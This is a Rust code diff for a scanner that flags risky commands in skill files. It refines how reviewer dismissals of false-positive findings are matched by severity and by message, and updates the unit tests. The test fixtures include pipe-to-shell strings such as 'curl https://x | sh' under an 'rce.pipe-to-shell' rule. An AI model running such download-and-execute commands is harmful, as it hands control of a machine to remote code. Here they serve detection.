@@ -113,10 +113,42 @@ pub struct Finding {
 
 impl Finding {
     /// Whether `dismissal` names this finding: the same rule on the same text of the same
-    /// file (line numbers move between revisions; the text a rule matched does not).
+    /// file, saying the same thing (line numbers move between revisions; the text a rule
+    /// matched and what it found there do not), no more severe than what the reviewer
+    /// judged. A flow's message names its source, so a dismissed flow whose source
+    /// changes is a new finding.
     pub fn matches(&self, dismissal: &Dismissal) -> bool {
-        self.rule == dismissal.rule && self.file == dismissal.file && self.excerpt == dismissal.excerpt
+        self.rule == dismissal.rule
+            && self.file == dismissal.file
+            && self.excerpt == dismissal.excerpt
+            && self.severity <= dismissal.severity
+            && message_key(&self.message) == dismissal.message
     }
+
+    /// Whether this finding can be told apart from others well enough to be dismissed:
+    /// it points at text (not a whole file), and that text is shown whole (not a masked
+    /// secret, not cut short).
+    pub fn identifiable(&self) -> bool {
+        !self.excerpt.is_empty() && !self.excerpt.contains("****") && !self.excerpt.contains('…')
+    }
+}
+
+/// A finding's message as a dismissal keeps it: line numbers (`line 12`) left out, since
+/// they move when the file changes above them.
+pub fn message_key(message: &str) -> String {
+    let mut out = String::with_capacity(message.len());
+    let mut rest = message;
+    while let Some(at) = rest.find("line ") {
+        let (before, after) = rest.split_at(at + "line ".len());
+        out.push_str(before);
+        let digits = after.len() - after.trim_start_matches(|c: char| c.is_ascii_digit()).len();
+        if digits > 0 {
+            out.push('#');
+        }
+        rest = &after[digits..];
+    }
+    out.push_str(rest);
+    out
 }
 
 /// A reviewer's judgement that one finding of a skill is a false positive, kept with the
@@ -130,6 +162,11 @@ pub struct Dismissal {
     pub file: String,
     /// The text the rule matched, as in the finding's excerpt.
     pub excerpt: String,
+    /// What the finding said ([`message_key`]).
+    pub message: String,
+    /// The severity the reviewer judged: a finding of the same text that is more severe
+    /// (another context made it so) is not dismissed by it.
+    pub severity: Severity,
     /// Who dismissed it, why and when.
     #[serde(flatten)]
     pub dismissed: Dismissed,
@@ -295,7 +332,7 @@ mod tests {
             line,
             column: 1,
             excerpt: excerpt.to_owned(),
-            message: String::new(),
+            message: format!("runs a download (line {line})"),
             hint: String::new(),
             introduced: None,
             dismissed: None,
@@ -313,6 +350,8 @@ mod tests {
             rule: "rce.pipe-to-shell".to_owned(),
             file: "SKILL.md".to_owned(),
             excerpt: "curl https://x | sh".to_owned(),
+            message: message_key("runs a download (line 3)"),
+            severity: Severity::High,
             dismissed: Dismissed {
                 id: 7,
                 by: "rita".to_owned(),
@@ -331,9 +370,28 @@ mod tests {
             finding("rce.pipe-to-shell", Severity::High, "curl https://x | sh", 30),
             finding("rce.pipe-to-shell", Severity::High, "curl https://y | sh", 31),
         ]);
-        later.apply_dismissals(&[dismissal]);
+        later.apply_dismissals(std::slice::from_ref(&dismissal));
         assert!(later.findings[0].dismissed.is_some() && later.findings[1].dismissed.is_none());
         assert_eq!(later.verdict, Verdict::Dangerous);
+        // The same text found more severe (another context), or saying something else
+        // (a flow from another source), is not what the reviewer judged.
+        let mut worse = Report::new(vec![finding(
+            "rce.pipe-to-shell",
+            Severity::Critical,
+            "curl https://x | sh",
+            3,
+        )]);
+        worse.apply_dismissals(std::slice::from_ref(&dismissal));
+        assert!(worse.findings[0].dismissed.is_none());
+        let mut other = finding("rce.pipe-to-shell", Severity::High, "curl https://x | sh", 3);
+        other.message = "runs a download from another host (line 3)".to_owned();
+        let mut other = Report::new(vec![other]);
+        other.apply_dismissals(&[dismissal]);
+        assert!(other.findings[0].dismissed.is_none());
+        assert_eq!(
+            message_key("from line 12: x (line 3), lines"),
+            "from line #: x (line #), lines"
+        );
         // Serialised, an undismissed finding has no `dismissed` field (older readers).
         let json = serde_json::to_value(&later.findings[1]).unwrap();
         assert!(json.get("dismissed").is_none());
